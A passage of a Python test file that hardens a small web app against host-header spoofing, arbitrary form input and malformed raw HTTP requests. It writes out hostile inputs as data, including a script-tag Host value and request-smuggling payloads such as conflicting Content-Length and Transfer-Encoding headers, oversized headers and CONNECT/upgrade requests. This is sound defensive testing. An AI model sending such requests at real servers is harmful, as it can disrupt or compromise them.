        answer = client.get(path, headers=headers)
        holds(answer)
        assert answer.status_code in (200, 303, 304, 404)
        if path == "/desk":
            assert answer.status_code == 303
    for path in ("/reframe", "/comments", "/contact", "/desk/mail/retry"):
        holds(client.post(path, data={"phrase": "zebra"}, headers=headers))


HOSTS = ["zebra.example", "jo.example.zebra.example", "jo.example:99", "jo.example@zebra.example", "zebra@jo.example", "", "localhost", "127.0.0.1",
         "[::1]", "[zebra", "jo.example\\zebra", "jo.example/zebra", "jo.example?zebra", "jo.example,zebra.example", " jo.example", "xn--zebra",
         "<script>zebra</script>", "jo.example:zebra", "jo.example:", "JO.EXAMPLE.", "zebra" * 60]  # fmt: skip


@pytest.fixture(scope="module")
def production(tmp_path_factory):
    folder = tmp_path_factory.mktemp("production")
    mail = {"MAIL_TO": "jo@jo.example", "SMTP_HOST": "localhost"}
    app = create_app(
        {"DATABASE": str(folder / "site.sqlite3"), "SECRET_KEY": "for tests only", "URL": "https://jo.example", **mail}
    )
    app.test_client_class = VettingClient
    return app.test_client()


@pytest.mark.parametrize("host", HOSTS)
def test_another_host_is_shown_nothing_of_the_site_and_named_nowhere(production, host):
    for path in ("/", "/contact", "/desk", "/static/site.css", "/zebra"):
        for headers in ({"Host": host}, {"Host": host, **HTMX}):
            answer = production.get(path, headers=headers, base_url="https://jo.example")
            holds(answer)
            # A port is the same host said otherwise; it is never repeated.
            assert answer.status_code == 400 or host.lower().startswith("jo.example:") or host.lower() == "jo.example."
            assert "zebra" not in answer.text.lower()
            assert "jo.example:" not in answer.text


# ---- Everything else ----

# One site for all examples: what was kept before is counted with.
anything = hypothesis.settings(max_examples=60, suppress_health_check=list(hypothesis.HealthCheck))


@anything
@hypothesis.given(words=st.text(max_size=400), name=st.text(max_size=60), htmx=st.booleans())
def test_any_text_at_all_is_kept_as_cleaned_or_given_back(app, client, words, name, htmx):
    before = len(rows(app))
    sent = comment_fields(client.get("/comments/new")) | {"body": words, "name": name, "nudged": "1"}
    answer = client.post(
        "/comments",
        data={key: value.encode("utf-8", "surrogatepass") for key, value in sent.items()},
        headers=HTMX if htmx else None,
    )
    assert answer.status_code in (200, 303, 422)
    found = rows(app)
    assert len(found) == before + (answer.status_code != 422)
    if len(found) > before:
        assert found[-1][1] == text.clean(text.clean(words))
        assert found[-1][0] == text.clean_line(name)


@anything
@hypothesis.given(body=st.binary(max_size=600))
def test_any_bytes_at_all_are_answered(app, client, body):
    before = kept(app)
    for path in ("/comments", "/contact", "/reframe", "/desk/sign-in"):
        assert client.post(path, data=body, content_type=FORM).status_code in (200, 413, 422)
    assert kept(app) == before


RAW = {
    "no request": b"\r\n\r\n\r\n",
    "not HTTP": b"\x16\x03\x01zebra\x00\x00",
    "HTTP/0.9": b"GET /\r\n\r\n",
    "HTTP/9.9": b"GET / HTTP/9.9\r\nHost: x\r\n\r\n",
    "no host": b"GET /contact HTTP/1.1\r\n\r\n",
    "two hosts": b"GET /contact HTTP/1.1\r\nHost: a\r\nHost: zebra.example\r\n\r\n",
    "whole address": b"GET http://zebra.example/contact HTTP/1.1\r\nHost: x\r\n\r\n",
    "two lengths": b"POST /reframe HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nContent-Length: 30\r\n\r\nabc",
    "negative length": b"POST /reframe HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\nzebra",
    "length that is none": b"POST /reframe HTTP/1.1\r\nHost: x\r\nContent-Length: zebra\r\n\r\nzebra",
    "length beyond all": b"POST /reframe HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999\r\n\r\n",
    "length and chunks": b"POST /reframe HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 4\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n5\r\nzebra\r\n0\r\n\r\n",
    "chunks": b"POST /reframe HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\nzebra",
    "NUL in a header": b"GET / HTTP/1.1\r\nHost: x\r\nX-Zebra: a\0b\r\n\r\n",
    "folded header": b"GET / HTTP/1.1\r\nHost: x\r\nX-Zebra: a\r\n b\r\n\r\n",
    "header without a name": b"GET / HTTP/1.1\r\nHost: x\r\n: zebra\r\n\r\n",
    "header with a space": b"GET / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\n\r\n",
    "a thousand headers": b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X-Zebra: z\r\n" * 1000 + b"\r\n",
    "long header": b"GET / HTTP/1.1\r\nHost: x\r\nX-Zebra: " + b"z" * 600_000 + b"\r\n\r\n",
    "long path": b"GET /" + b"z" * 200_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    "bytes in a path": b"GET /\xff\xfe\x80 HTTP/1.1\r\nHost: x\r\n\r\n",
    "bytes in a query": b"GET /comments?after=\xff\xfe HTTP/1.1\r\nHost: x\r\n\r\n",
    "path without a slash": b"GET zebra HTTP/1.1\r\nHost: x\r\n\r\n",
    "star": b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n",
    "method in small letters": b"get /contact HTTP/1.1\r\nHost: x\r\n\r\n",
    "trace": b"TRACE / HTTP/1.1\r\nHost: x\r\nX-Zebra: zebra\r\n\r\n",
    "connect": b"CONNECT zebra.example:443 HTTP/1.1\r\nHost: zebra.example\r\n\r\n",
    "expectation": b"POST /reframe HTTP/1.1\r\nHost: x\r\nExpect: zebra\r\nContent-Length: 5\r\n\r\nzebra",
    "upgrade": b"GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: zebra\r\n\r\n",
    "websocket": b"GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eg==\r\nSec-WebSocket-Version: 13\r\n\r\n",
}  # fmt: skip


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    running = start(tmp_path_factory.mktemp("hostile"))
    yield running
    stop(running)


@pytest.mark.parametrize("kind", RAW)
def test_whatever_comes_down_the_line_the_server_goes_on(served, kind):
    """The real server: an answer that is no fault, or a closed line; and the next visitor is served."""
    host, port = served.url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as line:
        answer = b""
        try:
            line.sendall(RAW[kind])
            line.shutdown(socket.SHUT_WR)
            while part := line.recv(65_536):
                answer += part
        except OSError:  # closed on us: as good an answer as any
            pass
    status = re.match(rb"HTTP/1\.[01] (\d{3})", answer)
    assert not answer or (status is not None and int(status[1]) < 500 and int(status[1]) != 101), answer[:200]
    assert b"zebra" not in answer.lower()
    with socket.create_connection((host, int(port)), timeout=10) as line:
        line.sendall(f"GET /contact HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n".encode())
        assert line.recv(15).startswith(b"HTTP/1.1 200")


def test_there_are_at_least_two_hundred_of_them():
    assert sum(map(len, (WORDS, BODIES, PATHS, METHODS, HEADERS, HOSTS, RAW))) > 200
